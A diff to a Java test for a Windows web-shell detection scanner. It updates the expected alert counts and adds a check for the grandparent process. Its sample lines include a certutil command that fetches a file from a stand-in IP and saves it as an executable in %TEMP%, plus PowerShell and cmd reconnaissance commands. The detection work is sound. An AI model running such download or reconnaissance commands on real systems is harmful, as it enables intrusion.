@@ -25,7 +25,11 @@ class WindowsSamplesScanTest {
       List.of(
           "cmd.exe /c whoami",
           "cmd.exe /c \"cd /d C:\\inetpub\\wwwroot && ipconfig /all\"",
-          "cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/t.txt %TEMP%\\t.exe");
+          "cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/t.txt %TEMP%\\t.exe",
+          // the web server's grandchildren (powershell under cmd under the web server): matched
+          // through the process tree, which gives them their grandparent
+          "powershell.exe -nop -c whoami /all",
+          "powershell.exe -nop -c \"systeminfo | findstr /B Domain\"");
 
   private static Map<String, JsonNode> lastRevisions(String out) throws IOException {
     ObjectMapper json = new ObjectMapper();
@@ -51,7 +55,7 @@ class WindowsSamplesScanTest {
       ScanCommandTest.Run run = ScanCommandTest.scan("../samples/" + sample);
       assertEquals(0, run.code(), run.err());
       assertTrue(
-          run.err().contains("400 lines, 6 alert revisions, 0 unreadable, 48 skipped"), run.err());
+          run.err().contains("400 lines, 10 alert revisions, 0 unreadable, 48 skipped"), run.err());
       assertTrue(
           run.err().contains("windows/other-provider=1"),
           "the Exchange cmdlet record: " + run.err());
@@ -63,6 +67,11 @@ class WindowsSamplesScanTest {
       assertEquals(WEB_SHELL_LINES, lines(last.get("exch00.contoso.local")), sample);
       assertEquals(
           "w3wp.exe", last.get("exch00.contoso.local").get("initiatingProcessFileName").asText());
+      assertEquals(
+          "[\"w3wp.exe\"]",
+          last.get("exch00.contoso.local").get("initiatingProcessParentFileNames").toString(),
+          "the grandparent of the powershell lines, from the tree; the web server's own creation"
+              + " is not in the sample, so its direct children have none");
       assertEquals(WEB_SHELL_LINES, lines(last.get("apache01.contoso.local")), sample);
       assertEquals(
           "httpd.exe",
@@ -83,7 +92,8 @@ class WindowsSamplesScanTest {
     assertEquals(0, sysmon.code(), sysmon.err());
     JsonNode java = lastRevisions(sysmon.out()).get("javaweb03.contoso.local");
     assertEquals("java.exe", java.get("initiatingProcessFileName").asText());
-    assertEquals(WEB_SHELL_LINES, lines(java));
+    // (the sample's Tomcat intrusion has no grandchildren)
+    assertEquals(WEB_SHELL_LINES.subList(0, 3), lines(java));
     // 4688 carries no parent command line, so java.exe is never known to run Catalina
     ScanCommandTest.Run security =
         ScanCommandTest.scan("--profile", "hardened", "../samples/security-4688.jsonl");
@@ -105,7 +115,7 @@ class WindowsSamplesScanTest {
     ScanCommandTest.Run auto =
         ScanCommandTest.scan("--input-format", "auto", "../samples/sysmon.jsonl");
     assertEquals(0, auto.code(), auto.err());
-    assertTrue(auto.err().contains("6 alert revisions"), auto.err());
+    assertTrue(auto.err().contains("10 alert revisions"), auto.err());
     assertTrue(Files.exists(Path.of("../samples/sysmon.jsonl")));
   }
 }
